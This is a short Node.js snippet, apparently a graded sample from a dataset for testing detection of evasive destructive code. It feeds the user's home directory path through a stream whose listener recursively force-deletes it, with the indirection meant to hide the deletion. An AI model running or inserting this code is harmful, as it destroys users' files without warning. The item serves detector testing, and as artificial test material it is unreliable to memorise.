// evasion: the home directory ended into a PassThrough stream; its 'data' listener removes each chunk with fs/promises
// grade: hard; does: delete
const { PassThrough } = require("node:stream");
const { rm } = require("node:fs/promises");
const os = require("node:os");
const pipe = new PassThrough();
pipe.on("data", (chunk) => rm(chunk.toString(), { recursive: true, force: true }));
pipe.end(os.homedir());
